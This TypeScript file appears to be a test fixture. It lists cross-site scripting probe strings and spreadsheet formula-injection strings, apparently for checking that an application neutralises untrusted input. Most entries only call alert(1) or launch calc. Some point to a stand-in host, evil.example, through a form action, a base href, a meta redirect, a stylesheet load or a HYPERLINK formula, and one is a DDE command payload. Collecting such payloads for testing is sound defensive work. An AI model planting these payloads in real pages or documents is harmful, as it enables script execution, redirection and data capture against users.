/** R1: what has made pages run a stranger's words. */
export const XSS = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", '<svg onload=alert(1)>', '<svg/onload=alert(1)>',
  '</style><script>alert(1)</script>', '</title><script>alert(1)</script>', '<!--<img src="--><img src=x onerror=alert(1)>', '<iframe src=javascript:alert(1)>',
  '<a href="javascript:alert(1)">x</a>', '<body onload=alert(1)>', '<math><mtext></mtext><script>alert(1)</script></math>', '<template><img src=x onerror=alert(1)></template>',
  '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", '` onerror=`alert(1)', '<input autofocus onfocus=alert(1)>', '<details open ontoggle=alert(1)>',
  '<object data="data:text/html,<script>alert(1)</script>">', '<link rel=stylesheet href=//evil.example/x.css>', '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>', '<form action=//evil.example><input name=q></form>', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>', '\u202egnp.<script>alert(1)</script>', '<style>@import url(//evil.example)</style>', '${alert(1)}{{constructor.constructor("alert(1)")()}}<b>',
] as const

/** R1: ten ways in which a text would be run by a spreadsheet. */
export const FORMULAS = ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '=cmd|"/c calc"!A1', ' =1+1', '=HYPERLINK("http://evil.example")', '\uff1d1+1'] as const
